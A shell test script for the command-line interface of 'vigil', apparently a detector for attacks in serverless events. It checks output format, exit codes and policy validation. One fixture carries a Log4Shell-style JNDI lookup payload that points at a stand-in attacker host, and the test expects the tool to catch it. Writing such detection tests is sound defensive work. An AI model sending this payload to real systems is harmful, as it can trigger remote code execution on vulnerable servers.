#!/bin/sh
# `vigil inspect` and `vigil policy check` through pol_cli_main: output
# format, id echo, "event" unwrapping, exit codes.
# usage: test_cli.sh POL-CLI
set -u
cli=$1
tmp=$(mktemp -d /tmp/vigil-cli-XXXXXX)
trap 'rm -rf "$tmp"' EXIT
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }
expect_rc() { # WANT CMD...
	want=$1; shift
	"$@" >"$tmp/out" 2>"$tmp/err"; rc=$?
	[ "$rc" = "$want" ] || fail "exit $rc, want $want: $*: $(cat "$tmp/err")"
}
has() { grep -q -- "$1" "$tmp/out" || fail "output lacks $1: $(cat "$tmp/out")"; }

printf '%s' '{"Records":[{"eventSource":"aws:sqs","body":"hello"}]}' >"$tmp/sqs.json"
expect_rc 0 "$cli" inspect "$tmp/sqs.json"
has '^{"n":1,"source":"sqs","verdict":"pass","score":0,"findings":\[\],"us":[0-9.]*}$'

# NDJSON: wrapper objects are unwrapped and their id echoed; a bad line is
# an error verdict, the run goes on, the exit status is 1.
cat >"$tmp/events.ndjson" <<'EOF'
{"id":"a-1","event":{"Records":[{"eventSource":"aws:sqs","body":"hi"}]}}
{"id":7,"event":{"type":"TOKEN","authorizationToken":"x","methodArn":"arn"}}
not json
{"httpMethod":"GET","resource":"/","requestContext":{},"queryStringParameters":{"q":"${jndi:ldap://evil.example/a}"}}
EOF
expect_rc 1 "$cli" inspect --ndjson "$tmp/events.ndjson"
has '^{"n":1,"id":"a-1","source":"sqs","verdict":"pass"'
has '^{"n":2,"id":7,"source":"apigw-authorizer"'
has '^{"n":3,"source":"unknown","verdict":"error"'
has '^{"n":4,"source":"apigw-v1","verdict":"alert","score":[0-9]*,"findings":\[{"rule":'
# other detectors (ssrf: an ldap URL) may also fire; the jndi finding must be there
has '{"rule":"jndi[.a-z_]*","category":"jndi","severity":"[a-z]*","path":"queryStringParameters.q","excerpt":"${jndi:ldap://evil.example/a}"}[],]'
has '"us":[0-9.]*}$'
[ "$(wc -l <"$tmp/out")" = 4 ] || fail "want 4 lines"

# block mode, stdin
tail -n 1 "$tmp/events.ndjson" | { "$cli" inspect --mode block - >"$tmp/out"; echo $? >"$tmp/rc"; }
[ "$(cat "$tmp/rc")" = 0 ] || fail "stdin: exit $(cat "$tmp/rc")"
has '"verdict":"block"'

# usage and policy errors: 2
expect_rc 2 "$cli" inspect --mode panic "$tmp/sqs.json"
expect_rc 2 "$cli" inspect --bogus
expect_rc 2 "$cli" inspect "$tmp/missing.json"
printf '{\n "treshold": 3\n}\n' >"$tmp/bad.json"
expect_rc 2 "$cli" inspect --policy "$tmp/bad.json" "$tmp/sqs.json"
grep -q "bad.json:2: unknown member" "$tmp/err" || fail "policy error lacks file:line: $(cat "$tmp/err")"

# policy check
printf '{"threshold": 3, "detectors": {"xss": "alert"}}\n' >"$tmp/good.json"
expect_rc 0 "$cli" policy check "$tmp/good.json"
has "good.json: ok"
expect_rc 1 "$cli" policy check "$tmp/good.json" "$tmp/bad.json"
grep -q "bad.json:2: unknown member \"treshold\"" "$tmp/err" || fail "check: $(cat "$tmp/err")"
expect_rc 2 "$cli" policy
# the shipped example is valid and usable
if [ -n "${VIGIL_SOURCE_ROOT:-}" ]; then
	expect_rc 0 "$cli" policy check "$VIGIL_SOURCE_ROOT/policies/examples/api.json"
	expect_rc 0 "$cli" inspect --policy "$VIGIL_SOURCE_ROOT/policies/examples/api.json" "$tmp/sqs.json"
fi
# golden events: one attack per source is caught, benign look-alikes pass
if [ -n "${VIGIL_SOURCE_ROOT:-}" ]; then
	data=$VIGIL_SOURCE_ROOT/tests/data/policies
	expect_rc 0 "$cli" inspect --mode block --ndjson "$data/attacks.ndjson"
	[ "$(grep -c '"verdict":"block"' "$tmp/out")" = 17 ] || fail "attacks not all blocked: $(grep -v '"verdict":"block"' "$tmp/out")"
	[ "$(grep -o '"source":"[a-z0-9-]*"' "$tmp/out" | sort -u | wc -l)" = 17 ] || fail "attacks do not cover the 17 sources"
	expect_rc 0 "$cli" inspect --mode block --ndjson "$data/benign.ndjson"
	[ "$(grep -c '"verdict":"pass"' "$tmp/out")" = 5 ] || fail "benign events flagged: $(grep -v '"verdict":"pass"' "$tmp/out")"
fi
# the program name may come first
expect_rc 0 "$cli" vigil policy check "$tmp/good.json"

[ "$fails" = 0 ] && echo "cli: all passed"
exit $((fails > 0))
